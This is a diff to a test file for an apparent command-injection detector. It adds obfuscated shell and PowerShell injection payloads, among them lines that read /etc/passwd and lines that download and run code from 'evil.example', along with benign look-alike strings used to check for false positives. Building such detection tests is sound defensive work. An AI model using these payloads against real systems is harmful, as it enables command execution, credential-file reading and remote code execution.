@@ -35,6 +35,25 @@ ATTACKS = [
     (b"hello there; cat /etc/passwd", 5, "text", None),
     (b"have a nice day && wget http://evil.example/a", 5, "text", None),
     (b";cat\x0b/etc/passwd", 7, "start", None),
+    (b";$'cat' /etc/passwd", 7, "start", None),
+    (b";cat<>/etc/passwd", 7, "start", None),
+    (b";${PATH:0:1}bin${PATH:0:1}id", 7, "start", None),
+    (b";$a$b /etc/passwd", 7, "start", None),
+    (b"x=whoami;$x", 5, "word", "a word put into a variable, then the variable run"),
+    (b"|%COMSPEC% /c whoami", 7, "start", None),
+    (b"; Start-Process calc", 7, "start", None),
+    (b"; IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')", 7, "start", None),
+    (b"iex(iwr evil.example/a)", 6, "whole value", None),
+    (b";find / -name flag", 7, "start", None),
+    (b"& net localgroup administrators", 7, "start", None),
+    (b"x;id>/var/www/o.txt", 7, "word", None),
+    (b"|+dir+c:", 7, "start", None),
+    (b"|usr/bin/id", 7, "start", None),
+    (b"$((`id`))", 6, "start", None),
+    (b"-oProxyCommand=id", 6, "whole value", "option that makes a program start another"),
+    (b"& ping\n-c\n10\n127.0.0.1", 7, "start", None),
+    (b"That is all. ; id", 5, "between sentences", None),
+    (b";id Have a nice day", 6, "start", None),
 ]
 
 
@@ -60,6 +79,15 @@ LOOK_ALIKES = [
     b"npm install && npm run build",
     b"f() { return 1; }",
     b"whoami",
+    b"net income; net user growth",
+    b"length > 3; date > 2020-01-01; type > 3.5",
+    b"a nap; while he reads; for a time in May",
+    b"Is it; well-known; get-together",
+    b"x=1; y=2; $x is x",
+    b"Stop. | mind the gap",
+    b"Wait for it... & date",
+    b"kill two birds; reboot the series of books",
+    b"A pipe | find me there; tar and feathers",
     b"cost: $(5)",
     b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
     b"see /usr/bin for programs",
@@ -71,6 +99,12 @@ LOOK_ALIKES = [
 def test_a_look_alike(text):
     finding = detect(text, Place.ARGUMENT)
     assert finding is None or finding.score < 5, finding
+
+
+def test_a_file_name_holds_no_hint():
+    assert detect(b"`id`.pdf", Place.FILE_NAME).score == 5
+    assert detect(b"`id`.pdf", Place.ARGUMENT).score < 5
+    assert detect(b"Tom & Jerry; part 2.pdf", Place.FILE_NAME) is None
 
 
 def test_so_many_pieces_are_looked_at():
